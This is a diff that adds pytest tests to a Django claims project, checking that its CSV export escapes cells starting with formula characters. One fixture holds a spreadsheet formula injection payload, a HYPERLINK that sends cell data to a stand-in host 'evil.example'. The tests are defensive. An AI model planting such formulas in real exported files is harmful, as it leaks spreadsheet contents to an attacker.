@@ -1,10 +1,16 @@
 """ClaimReview and W3C Web Annotation exports, checked against Google's list and the W3C suite."""
 
+import csv
+import io
+
 import pytest
 
 from claims import services
+from claims.api.exports import _cell
+from claims.models import Topic
+from tests.api.conftest import publish
 from tests.conformance.web_annotation import checker
-from tests.factories import make_entity, make_quote
+from tests.factories import make_claim, make_entity, make_quote
 
 pytestmark = pytest.mark.django_db
 
@@ -125,3 +131,29 @@ def test_no_claimreview_without_a_published_verdict(reviewer_client, ledger):
     response = reviewer_client.get("/api/claims/draft-claim/claimreview/")
     assert response.status_code == 404
     assert "no published verdict" in response.json()["detail"]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
+def test_csv_cells_that_would_run_as_formulas_are_escaped(anonymous, db, start):
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    topic = Topic.objects.create(slug="-topic", name="Topic")
+    claim = make_claim(
+        slug=f"formula-{ord(start)}",
+        kind="text",
+        unit="",
+        statement_en=formula,
+        statement_zh=f"{start}1+1",
+        topics=[topic],
+    )
+    publish(claim)
+    response = anonymous.get("/api/claims/?format=csv")
+    row = next(csv.DictReader(io.StringIO(response.content.decode())))
+    assert row["statement_en"] == f"'{formula}"
+    assert row["statement_zh"] == f"'{start}1+1"
+    assert row["topics"] == "'-topic"
+    assert (row["slug"], row["open_conflict_count"]) == (claim.slug, "0")
+
+
+def test_a_carriage_return_at_the_start_of_a_cell_is_escaped():
+    # Stored texts never hold one (sources.text.normalize_text); the cell rule covers it anyway.
+    assert _cell("\r=1+1") == "'\r=1+1" and _cell(["-a", "b"]) == "'-a;b" and _cell(-1) == "-1"
